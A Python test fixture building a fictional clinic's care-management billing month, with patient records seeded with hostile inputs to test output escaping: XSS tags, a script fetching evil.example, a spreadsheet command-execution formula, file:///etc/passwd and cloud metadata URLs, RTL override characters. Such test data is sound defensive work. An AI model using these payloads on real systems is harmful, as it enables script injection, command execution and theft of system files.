"""A practice's month made by hand, with the texts that hostile or careless records hold."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

from flows.ccm.citation import Citation
from flows.ccm.decision import COUNTED, Decision, DecisionLine, Reason, TimePiece
from flows.ccm.month_result import InputObject, MonthResult, Reject
from flows.ccm.patient import Address, CarePlan, Condition, Consent, Coverage, InitiatingVisit, Patient, PlanItem
from flows.ccm.patient_month import PatientMonth
from flows.ccm.practice import Choice, Practice, Practitioner, StaffMember
from flows.ccm.rules import Attestation, Family, RateSource, ReasonText, Rules
from flows.ccm.service_month import ServiceMonth
from flows.ccm.source import Source

MONTH = ServiceMonth(2025, 11)
CALLS = "inbox/calls/2025-11/calls.csv"
LONG_NOTE = ("Talked about salt, steps and sleep. " * 120)[:4000]
HOSTILE_NAME = "<img src='file:///etc/passwd' onerror=alert(1)>"
FORMULA_NAME = "=cmd|'/C calc'!A0"
RTL_NAME = "שרה\u202e"
OUTDATED = Reason("care_plan.outdated", "N18.3 began 2025-10-02", (Source("inbox/records/conditions.csv", 9),))
BELOW = Reason("time.below_threshold", "19:59")
TITLE = "General supervision of care management"

REASONS = {
    text.id: text
    for text in (
        ReasonText("consent.missing", "hold", "No consent is on record.", "Obtain consent and record who gave it, when and how."),
        ReasonText(
            "care_plan.outdated", "hold", "A condition changed after the last revision.", "Revise the care plan and date it."
        ),
        ReasonText("time.below_threshold", "never", "Counted time is below the first threshold.", ""),
        ReasonText("patient.died", "never", "The patient died before the month began.", ""),
        ReasonText("time.face_to_face", "excluded", "Face-to-face contact does not count.", ""),
        ReasonText("time.unqualified_staff", "excluded", "The person was not on the roster that day.", ""),
        ReasonText("row.bad_value", "reject", "A field's value is not one of its kind.", ""),
        ReasonText("patient.ambiguous", "reject", "More than one patient on the roster matches.", ""),
        ReasonText("audit.identical_minutes", "flag", "The same minutes recur across patients.", ""),
        ReasonText("audit.manual_time", "flag", "Most of the time has no call record behind it.", ""),
    )
}

RULES = Rules(
    month=MONTH,
    version="4be1f2",
    time_zone="America/Los_Angeles",
    kind="office",
    practitioner_credentials=frozenset({"MD", "NP"}),
    staff_credentials=frozenset({"RN", "LPN"}),
    billing_credentials={"dr_a": "MD", "np_b": "NP"},
    reduced_credentials=frozenset({"NP"}),
    reduced_rate=Decimal("0.85"),
    families=(
        Family("staff", "month", "99490", 20, "99439", 20, 2, citation=Citation("Care management rule", "https://a.example/r")),
    ),
    choice_amounts={"99490": Decimal("60.49")},
    expected_amounts={"99490": Decimal("60.49"), "99439": Decimal("45.93")},
    rate_source=RateSource(2025, "national", "non-facility", Citation("Fee schedule 2025", "https://a.example/fees")),
    complex_choice="complexity",
    staff_time_on_visit_day="exclude",
    consent_method="any",
    consent_elements=frozenset({"availability"}),
    condition_count=2,
    condition_months=12,
    visit_codes=frozenset({"99214"}),
    visit_edit_codes=frozenset({"99214"}),
    visit_within_months=12,
    conflicts=(),
    plans_covered=frozenset({"medicare"}),
    place_of_service="11",
    places_allowed=frozenset({"11"}),
    claim_form="837P",
    service_dates="last_day",
    service_dates_confirmed=False,
    charges=None,
    reasons=REASONS,
    citations={
        "consent": Citation("Consent rule", "https://a.example/consent"),
        "care_plan": Citation("Care plan habit", "https://a.example/plan", verified=False),
    },
    attestation=Attestation(
        title=TITLE,
        paragraphs=(
            "I supervised the clinical staff who performed the services listed below, those of the vendor included.",
            "I am the billing practitioner of each patient listed, and the services follow that patient's care plan.",
        ),
        signature_line="Signature of the billing practitioner",
        citation=Citation("42 CFR 410.26(b)(5)", "https://a.example/supervision"),
    ),
)

PRACTICE = Practice(
    slug="bayview",
    name="Bayview Family Medicine",
    kind="office",
    mac="JE",
    contractor="01112",
    locality="05",
    time_zone="America/Los_Angeles",
    npi="1992999999",
    tax_id="123456789",
    taxonomy="207Q00000X",
    address=Address("12 Harbor Street", "San Mateo", "CA", "944011234"),
    phone="6505550100",
    contact="Billing Office",
    place_of_service="11",
    type_of_bill="",
    submitter_id="BAY1",
    control_series=7,
    test=True,
    choices={"complex_choice": Choice("complexity", "Dr. Rivera", date(2025, 1, 2), "minutes of 2025-01-02")},
    practitioners=(
        Practitioner("dr_a", "Rivera", "Elena", "MD", "1234567893", "207Q00000X", date(2020, 1, 1)),
        Practitioner("np_b", "Okafor", "Grace", "NP", "1245319599", "363LF0000X", date(2022, 1, 1)),
    ),
    staff=(
        StaffMember("rn1", "Ann Lee", "RN", "practice", date(2021, 1, 1)),
        StaffMember("v7", "Tom Baker", "LPN", "vendor", date(2024, 1, 1), date(2025, 6, 30)),
        StaffMember("v7", "Tom Baker", "RN", "vendor", date(2025, 7, 1)),
    ),
    charges=(),
)

PLAN = CarePlan(
    established=date(2025, 1, 10),
    revised=date(2025, 9, 4),
    conditions=(PlanItem("Type 2 diabetes", "E11.9"), PlanItem("High blood pressure", "I10"), PlanItem("Trouble sleeping")),
    goals=(
        PlanItem("Walk to the market and back", "four days a week by the new year"),
        PlanItem("Sugar under control", "A1c below 7.5 %"),
    ),
    medications=(
        PlanItem("Metformin 500 mg", "one tablet with breakfast and one with dinner"),
        PlanItem("Lisinopril 10 mg", "one in the morning"),
    ),
    care_team=(PlanItem("Ann Lee, RN", "care nurse, (650) 555-0101"),),
    specialists=(PlanItem("Dr. Chen, eye clinic", "yearly eye check, (650) 555-0190"),),
    monitoring=(PlanItem("Blood pressure at home", "every morning, written down"), PlanItem("A1c", "every three months")),
    self_management=(
        PlanItem("Check your feet each evening", "Call us if you see a sore."),
        PlanItem("Salt: less than a teaspoon a day"),
    ),
)


def piece(entry: str, day: int, seconds: int, person: str = "rn1", fate: str = COUNTED, line: int = 2, **more: str) -> TimePiece:
    """A stretch of time that began at 17:00 UTC of a November day, which is 09:00 in the practice."""
    credential = {"rn1": "RN", "v7": "RN", "dr_a": "MD"}.get(person, "")
    started = datetime(2025, 11, day, 17, 0, tzinfo=UTC) + timedelta(minutes=line)
    performer = {"RN": "staff", "MD": "practitioner"}.get(credential, "")
    activity = more.get("activity", "patient_call")
    return TimePiece(
        entry, started, seconds, person, credential, performer, activity, fate, more.get("description", ""), Source(CALLS, line)
    )


def patient_month(number: int, family: str, given: str, **more: object) -> PatientMonth:
    patient = Patient(
        key=f"p{number:03d}", mrn=f"M{number:04d}", family_name=family, given_name=given, born=date(1944, 2, number), sex="F",
        mbi="1EG4TE5MK73", language=str(more.get("language", "en")),
    )  # fmt: skip
    return PatientMonth(
        practice="bayview",
        month=MONTH,
        patient=patient,
        practitioner=str(more.get("practitioner", "dr_a")),
        enrolled=date(2025, 1, 6),
        disenrolled=None,
        decision_making="low",
        conditions=(
            Condition("E119", date(2012, 3, 1), "Type 2 diabetes", 12, True),
            Condition("I10", date(2009, 1, 1), "High blood pressure", 12, True),
            Condition("J069", date(2024, 1, 1), "A cold long gone", resolved=date(2024, 2, 1)),
        ),
        consents=(Consent(date(2025, 1, 6), "written", "granted", frozenset({"availability"}), "dr_a"),),
        care_plan=more.get("plan", PLAN),  # type: ignore[arg-type]
        visits=(InitiatingVisit(date(2025, 1, 6), "99214"),),
        coverages=(Coverage("medicare", "covered"),),
        other_services=(),
        inpatient=(),
        time=(),
    )


def decision(patient: PatientMonth, outcome: str, pieces: tuple[TimePiece, ...], **more: object) -> Decision:
    seconds: dict[str, int] = {}
    excluded: dict[str, int] = {}
    for each in pieces:
        tally, name = (seconds, each.performer) if each.fate == COUNTED else (excluded, each.fate)
        tally[name] = tally.get(name, 0) + each.seconds
    lines = more.get("lines", (DecisionLine("99490", 1, Decimal("75.00"), Decimal("60.49")),))
    return Decision(
        practice="bayview",
        month=MONTH,
        patient_key=patient.patient.key,
        outcome=outcome,
        lines=lines if outcome == "bill" else (),  # type: ignore[arg-type]
        at_stake=lines if outcome == "hold" else (),  # type: ignore[arg-type]
        reasons=more.get("reasons", ()),  # type: ignore[arg-type]
        flags=more.get("flags", ()),  # type: ignore[arg-type]
        seconds=seconds,
        excluded=excluded,
        pieces=pieces,
        family="staff" if outcome == "bill" else "",
        considered=(),
        requirements=(),
        service_from=MONTH.last_day if outcome == "bill" else None,
        service_to=MONTH.last_day if outcome == "bill" else None,
        place_of_service="11",
        claim_form="837P" if outcome == "bill" else "none",
        rendering=patient.practitioner if outcome == "bill" else "",
        diagnoses=("E119", "I10"),
        rules_version="4be1f2",
    )


def month_result() -> MonthResult:
    """Seven patients: four billed (one in Spanish, one hostile), two held, one not billable."""
    hostile_plan = replace(
        PLAN,
        goals=(
            PlanItem("<script>fetch('https://evil.example/x')</script>", "</td></tr><h1>owned"),
            PlanItem("😀 Smile more", "&amp; ∑"),
        ),
        self_management=(PlanItem("<link rel=attachment href=file:///etc/hostname>", "@import url(https://evil.example/a.css)"),),
    )
    units = (
        DecisionLine("99490", 1, Decimal("75.00"), Decimal("60.49")),
        DecisionLine("99439", 1, Decimal("60.00"), Decimal("45.93")),
    )
    alba = patient_month(1, "Alba", "Rosa", language="es-MX")
    hostile = patient_month(2, HOSTILE_NAME, "Bobby", plan=hostile_plan)
    formula = patient_month(3, FORMULA_NAME, "Carl")
    turned = patient_month(4, RTL_NAME, "Dinah", practitioner="np_b")
    held = patient_month(5, "Ekström", "Åsa")
    died = patient_month(6, "Fields", "Gil\x07da")
    short = patient_month(7, "Gómez-O’Neil", "Hector")
    rows = (
        (alba, decision(alba, "bill", (
            piece("c1", 4, 900, line=2), piece("c2", 12, 1230, "v7", line=3, activity="care_plan_update"),
            piece("c3", 20, 400, line=4, fate="time.face_to_face"), piece("c4", 25, 600, "dr_a", line=5, activity="chart_review"),
        ), lines=units)),
        (hostile, decision(hostile, "bill", (
            piece("<b>", 5, 1200, line=6, description="<iframe src='http://169.254.169.254/'></iframe>"),
            piece("c6", 6, 300, "ghost", line=7, fate="time.unqualified_staff", description=LONG_NOTE),
        ), flags=(Reason("audit.manual_time", "20 of 20 minutes"),))),
        (formula, decision(formula, "bill", (piece("c7", 7, 1500, "v7", line=8, description="+1-800 =HYPERLINK(1)"),))),
        (turned, decision(turned, "bill", (piece("c8", 8, 1260, line=9),))),
        (held, decision(held, "hold", (piece("c9", 9, 1800, line=10, description="\ttab first"),), reasons=(
            Reason("consent.missing"), OUTDATED,
        ), lines=units)),
        (died, decision(died, "not_billable", (), reasons=(Reason("patient.died", "died 2025-10-30"),))),
        (short, decision(short, "not_billable", (piece("c10", 10, 1199, line=11),), reasons=(BELOW,))),
    )  # fmt: skip
    return MonthResult(
        practice=PRACTICE,
        month=MONTH,
        rules=RULES,
        patient_months=tuple(pm for pm, _ in rows),
        decisions=tuple(d for _, d in rows),
        claims=(),
        rejects=(
            Reject(Source(CALLS, 12), "row.bad_value", "seconds", "-5"),
            Reject(Source(CALLS, 13), "patient.ambiguous", "", "=1+1", ("M0001", "M0007")),
        ),
        inputs=(
            InputObject(CALLS, "v1", "a" * 64, 12, 8, 2, 2, {"time.face_to_face": 1, "time.unqualified_staff": 1}),
            InputObject("inbox/records/patients.csv", "v3", "b" * 64, 7, 7, 0, 0, {}),
        ),
        month_flags=(Reason("audit.identical_minutes", "20:00 for 9 of 40 patients"),),
    )


def personal_month() -> MonthResult:
    """The month whose first patient is billed on the practitioner's own minutes; staff minutes were logged too."""
    month = month_result()
    own = (DecisionLine("99491", 1, Decimal("165.00"), Decimal("97.37")),)
    pieces = (piece("d1", 4, 1860, "dr_a"), piece("d2", 5, 363, "v7", line=3))
    billed = replace(decision(month.patient_months[0], "bill", pieces, lines=own), rendering="dr_a")
    families = (*RULES.families, Family("practitioner", "practitioner", "99491", 30, "99437", 30, 2))
    return replace(month, rules=replace(RULES, families=families), decisions=(billed, *month.decisions[1:]))


def crowded_month(patients: int) -> MonthResult:
    """A month with ``patients`` plain billed patients under one practitioner."""
    months = tuple(patient_month(n % 28 + 1, f"Patient{n:03d}", "Pat") for n in range(patients))
    months = tuple(replace(pm, patient=replace(pm.patient, key=f"q{n:03d}", mrn=f"Q{n}")) for n, pm in enumerate(months))
    decisions = tuple(
        decision(pm, "bill", (piece(f"a{n}", 4, 1200, line=n + 2), piece(f"b{n}", 18, 300, "v7", line=n + 500)))
        for n, pm in enumerate(months)
    )
    return replace(month_result(), patient_months=months, decisions=decisions, rejects=(), month_flags=())
